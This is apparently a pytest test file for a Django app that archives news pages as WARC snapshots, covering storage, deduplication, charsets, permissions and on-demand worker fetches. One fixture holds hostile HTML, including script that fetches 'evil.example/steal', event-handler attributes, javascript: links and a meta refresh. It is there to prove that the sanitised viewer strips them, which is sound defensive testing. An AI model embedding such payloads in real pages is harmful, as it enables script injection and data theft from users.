"""Preserved snapshots: every fetched revision's HTTP response as a WARC record, deduplicated by
body, viewable only inert; on-demand snapshots by the worker. Real HTTP on loopback."""

import gzip
import hashlib
import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.urls import reverse
from warcio.archiveiterator import ArchiveIterator

from outbox.models import OutboxMessage
from sources import ingestion, snapshots
from sources.models import Document, DocumentRevision, Snapshot
from tests import factories
from tests.factories import FeedEntryFactory
from tests.httpserver import LoopbackServer
from tests.web_pages import PARAGRAPHS, article

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fetch_settings(settings, tmp_path):
    settings.FETCH_ALLOWED_NETWORKS = ["127.0.0.1/32"]
    settings.FETCH_HOST_INTERVAL = 0
    settings.FETCH_TIMEOUT = 10
    settings.MEDIA_ROOT = tmp_path / "media"
    from django.core.cache import cache

    cache.clear()  # robots.txt answers of an earlier test's server


@pytest.fixture
def server():
    with LoopbackServer() as running:
        yield running


def stored_files():
    root = default_storage.path("snapshots")
    import os

    if not os.path.isdir(root):
        return []
    return sorted(os.path.join(folder, name) for folder, _dirs, names in os.walk(root) for name in names)


def records_of(data: bytes):
    """(WARC headers, HTTP headers, body) of every record, read by warcio as any WARC tool would."""
    return [
        (record.rec_headers, record.http_headers, record.content_stream().read())
        for record in ArchiveIterator(io.BytesIO(data))
    ]


def fetch(url):
    entry = FeedEntryFactory(url=url)
    outcome = ingestion.fetch_entry(entry_id=entry.pk)
    return outcome, entry


def test_a_fetched_revision_is_preserved_as_a_warc_record_with_the_bytes_the_server_sent(server):
    body = article("Police withdraw from Kirkuk", PARAGRAPHS)
    url = server.add("/a", body, headers={"X-Served-By": "loopback", "Cache-Control": "max-age=60"})

    outcome, _entry = fetch(url)

    assert not outcome.error
    revision = DocumentRevision.objects.get()
    snapshot = revision.snapshot
    data = snapshot.file.read()
    assert hashlib.sha256(data).hexdigest() == snapshot.sha256
    assert len(data) == snapshot.size
    assert snapshot.payload_sha256 == hashlib.sha256(body).hexdigest()
    assert (snapshot.url, snapshot.status, snapshot.content_type) == (url, 200, "text/html; charset=utf-8")
    assert snapshot.document == revision.document and not snapshot.on_demand
    [(warc, http, payload)] = records_of(data)
    assert warc.get_header("WARC-Type") == "response"
    assert warc.get_header("WARC-Target-URI") == url
    assert warc.get_header("WARC-Date").startswith(f"{snapshot.fetched_at:%Y-%m-%dT%H:%M}")
    assert http.get_statuscode() == "200"
    assert http.protocol == "HTTP/1.1"
    assert http.get_header("X-Served-By") == "loopback"
    assert http.get_header("Cache-Control") == "max-age=60"
    assert payload == body
    assert stored_files() == [default_storage.path(snapshot.file.name)]


def test_a_gzipped_response_is_kept_as_the_body_read_with_the_original_encoding_noted(server):
    body = article("Ministry statement", PARAGRAPHS[1:])
    url = server.add("/gz", gzip.compress(body), headers={"Content-Encoding": "gzip"})

    fetch(url)

    [(_warc, http, payload)] = records_of(Snapshot.objects.get().file.read())
    assert payload == body
    assert http.get_header("X-Archive-Orig-Content-Encoding") == "gzip"
    assert http.get_header("Content-Encoding") is None
    assert http.get_header("Content-Length") == str(len(body))


def test_the_same_body_fetched_again_reuses_its_snapshot_and_leaves_no_stray_file(server):
    first = article("Police withdraw from Kirkuk", PARAGRAPHS)
    url = server.add("/a", first)
    fetch(url)
    document = Document.objects.get()

    # The same text in other bytes: no new revision, so no snapshot (and its file is removed).
    server.add("/a", first.replace(b"<body>", b"<body><!-- rendered at 10:02 -->"))
    assert not ingestion.recheck_document(document_id=document.pk).new_revision
    assert Snapshot.objects.count() == 1 and len(stored_files()) == 1

    server.add("/a", article("Ministry denies Kirkuk withdrawal", PARAGRAPHS))
    assert ingestion.recheck_document(document_id=document.pk).new_revision
    server.add("/a", first)  # rewritten back: a third revision with the first one's body
    assert ingestion.recheck_document(document_id=document.pk).new_revision

    revisions = list(document.revisions.order_by("fetched_at", "id"))
    assert len(revisions) == 3
    assert revisions[0].snapshot_id == revisions[2].snapshot_id != revisions[1].snapshot_id
    assert Snapshot.objects.count() == 2
    assert len(stored_files()) == 2


@pytest.mark.parametrize("status", [404, 500])
def test_a_failed_fetch_stores_no_snapshot(server, status):
    url = server.add("/gone", b"<html><body>Not here</body></html>", status=status)

    outcome, _entry = fetch(url)

    assert outcome.error
    assert not Snapshot.objects.exists() and not DocumentRevision.objects.exists()
    assert stored_files() == []


def test_a_failed_transaction_leaves_no_snapshot_row_and_removes_its_file(server, monkeypatch):
    url = server.add("/a", article("Police withdraw from Kirkuk", PARAGRAPHS))

    def broken(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(ingestion, "_finish_entry", broken)
    with pytest.raises(RuntimeError):
        fetch(url)

    assert not Snapshot.objects.exists() and not DocumentRevision.objects.exists()
    assert stored_files() == []


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"status": 0}, "valid HTTP status"),
        ({"url": "ftp://files.example.org/a"}, "http or https"),
        ({"url": "https://example.org/" + "a" * 2000}, "2,000 characters"),
    ],
)
def test_a_response_that_cannot_be_preserved_is_refused_clearly_and_nothing_is_stored(options, message):
    document = factories.DocumentFactory()
    with pytest.raises(ValidationError, match=message):
        snapshots.store_snapshot(response=factories.outbound_response(**options), document=document)
    assert not Snapshot.objects.exists()
    assert stored_files() == []


HOSTILE = b"""<!doctype html><html><head><title>Leak</title><style>body{background:url(http://evil.example/x)}</style>
<script>fetch('http://evil.example/steal')</script><base href="http://evil.example/"></head>
<body onload="alert(1)"><h1 onclick="alert(2)">Kirkuk</h1><p>Police <b>withdrew</b>.</p>
<img src="http://evil.example/pixel.gif" srcset="http://evil.example/2x.gif 2x" onerror="alert(3)" alt="pixel">
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object>
<form action="http://evil.example/post"><input name="q"><button>Go</button></form>
<a href="http://evil.example/next" onmouseover="alert(4)">next page</a>
<a href="javascript:alert(5)">js</a><svg><script>alert(6)</script></svg>
<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>
<link rel="stylesheet" href="http://evil.example/s.css"><meta http-equiv="refresh" content="0;url=http://evil.example/"></body></html>"""


def test_the_sanitised_view_runs_nothing_loads_nothing_and_is_sandboxed(as_journalist):
    snapshot = factories.make_snapshot(body=HOSTILE)

    response = as_journalist.get(reverse("sources:snapshot-html", args=[snapshot.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert response["Content-Security-Policy"] == snapshots_csp()
    assert response["X-Content-Type-Options"] == "nosniff"
    page = response.content.decode()
    assert "Police <b>withdrew</b>." in page and "next page" in page and "Kirkuk" in page
    lowered = page.lower()
    for forbidden in ("<script", "<style", "<iframe", "<object", "<form", "<input", "<base", "<link", "<meta http"):
        assert forbidden not in lowered
    assert not re.search(r"\son[a-z]+\s*=", lowered)
    assert "evil.example" not in lowered and "javascript:" not in lowered
    assert not re.search(r"\s(src|srcset|href|action|poster|data)\s*=", lowered)


def snapshots_csp():
    return "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:"


def test_the_text_view_is_plain_text_decoded_with_the_page_charset(as_journalist):
    text = "<p>كركوك: لا انسحاب</p><script>alert(1)</script>"
    snapshot = factories.make_snapshot(
        body=text.encode("cp1256"), headers=[("Content-Type", "text/html; charset=windows-1256")]
    )

    response = as_journalist.get(reverse("sources:snapshot-text", args=[snapshot.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == snapshots_csp()
    assert response.content.decode() == text


@pytest.mark.parametrize("content_type", ["text/html; charset=base64", "text/html; charset=no-such-thing", ""])
def test_a_bogus_or_missing_charset_falls_back_to_utf8_without_failing(as_journalist, content_type):
    headers = [("Content-Type", content_type)] if content_type else []
    snapshot = factories.make_snapshot(body="<p>ok ✓</p>\xff".encode("utf-8", "surrogateescape"), headers=headers)

    for route in ("sources:snapshot-text", "sources:snapshot-html"):
        response = as_journalist.get(reverse(route, args=[snapshot.pk]))
        assert response.status_code == 200
        assert "ok ✓" in response.content.decode()


def test_the_document_page_shows_each_revisions_snapshot_in_a_sandboxed_frame(server, client, journalist, editor):
    url = server.add("/a", article("Police withdraw from Kirkuk", PARAGRAPHS))
    fetch(url)
    document, snapshot = Document.objects.get(), Snapshot.objects.get()

    client.force_login(journalist)
    page = client.get(document.get_absolute_url()).content.decode()
    assert snapshot.sha256 in page and snapshot.payload_sha256 in page
    assert f'<iframe sandbox src="{reverse("sources:snapshot-html", args=[snapshot.pk])}"' in page
    assert reverse("sources:snapshot-text", args=[snapshot.pk]) in page
    assert reverse("sources:snapshot-warc", args=[snapshot.pk]) not in page  # editors only
    assert client.get(reverse("sources:snapshot-warc", args=[snapshot.pk])).status_code == 403

    client.force_login(editor)
    assert (
        reverse("sources:snapshot-warc", args=[snapshot.pk]) in client.get(document.get_absolute_url()).content.decode()
    )
    download = client.get(reverse("sources:snapshot-warc", args=[snapshot.pk]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == snapshot.file.read()


def test_preserving_a_page_on_demand_runs_in_the_worker_once(server, as_journalist, journalist, settings):
    url = server.add("/a", article("Police withdraw from Kirkuk", PARAGRAPHS))
    document = factories.DocumentFactory(url=url, canonical_url=url)

    response = as_journalist.post(reverse("sources:document-snapshot-request", args=[document.pk]))
    assert response.status_code == 302
    [message] = OutboxMessage.objects.filter(task_name="sources.tasks.take_snapshot")
    assert message.args == [document.pk, journalist.pk]
    # A second click while the first is pending queues nothing more.
    as_journalist.post(reverse("sources:document-snapshot-request", args=[document.pk]))
    assert OutboxMessage.objects.filter(task_name="sources.tasks.take_snapshot").count() == 1

    from sources import tasks

    tasks.take_snapshot(*message.args)
    hits = server.hits["/a"]
    tasks.take_snapshot(*message.args)  # delivered twice: the request is answered already
    assert server.hits["/a"] == hits == 1

    snapshot = Snapshot.objects.get()
    document.refresh_from_db()
    assert snapshot.on_demand and snapshot.requested_by == journalist and snapshot.document == document
    assert document.last_snapshot == snapshot and document.snapshot_requested_at is None
    [(_warc, _http, payload)] = records_of(snapshot.file.read())
    assert payload == article("Police withdraw from Kirkuk", PARAGRAPHS)
    assert snapshot.sha256 in as_journalist.get(document.get_absolute_url()).content.decode()


def test_a_failed_on_demand_fetch_is_shown_on_the_document_page_and_never_raised(server, as_journalist, journalist):
    url = server.add("/gone", b"gone", status=410, content_type="text/plain")
    document = factories.DocumentFactory(url=url, canonical_url=url)
    snapshots.request_snapshot(document=document, requested_by=journalist)

    assert ingestion.take_requested_snapshot(document_id=document.pk, requested_by_id=journalist.pk) is None

    document.refresh_from_db()
    assert "Could not preserve the page: the server answered HTTP 410" in document.snapshot_error
    assert not Snapshot.objects.exists() and stored_files() == []
    assert "the server answered HTTP 410" in as_journalist.get(document.get_absolute_url()).content.decode()


def test_an_outsider_cannot_ask_for_a_snapshot(as_outsider):
    document = factories.DocumentFactory()
    response = as_outsider.post(reverse("sources:document-snapshot-request", args=[document.pk]))
    assert response.status_code == 403
    assert not OutboxMessage.objects.exists()


def test_a_request_whose_worker_was_lost_can_be_made_again_after_the_lease(journalist, settings):
    from datetime import timedelta

    from django.utils import timezone

    document = factories.DocumentFactory()
    assert snapshots.request_snapshot(document=document, requested_by=journalist)
    assert not snapshots.request_snapshot(document=document, requested_by=journalist)
    Document.objects.filter(pk=document.pk).update(
        snapshot_requested_at=timezone.now() - timedelta(seconds=settings.INGEST_LEASE_SECONDS + 1)
    )
    assert snapshots.request_snapshot(document=document, requested_by=journalist)
    assert OutboxMessage.objects.filter(task_name="sources.tasks.take_snapshot").count() == 2
